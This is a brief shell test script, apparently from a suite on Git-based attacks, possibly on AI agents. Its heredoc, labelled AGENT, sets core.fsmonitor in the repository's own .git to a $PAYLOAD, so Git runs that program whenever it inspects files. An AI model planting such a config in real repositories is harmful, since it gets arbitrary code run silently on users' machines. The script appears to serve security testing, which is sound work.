#!/bin/sh
# core.fsmonitor in its own .git: a program that Git asks before it looks at files.
. "$(dirname "$0")/lib.sh" <<'AGENT'
git config core.fsmonitor "$PAYLOAD #"
git config core.fsmonitorHookVersion 2
git config core.untrackedCache true
git -c core.fsmonitor=false update-index --fsmonitor 2>/dev/null
echo changed >>base
planted 'in .git'
AGENT
attack
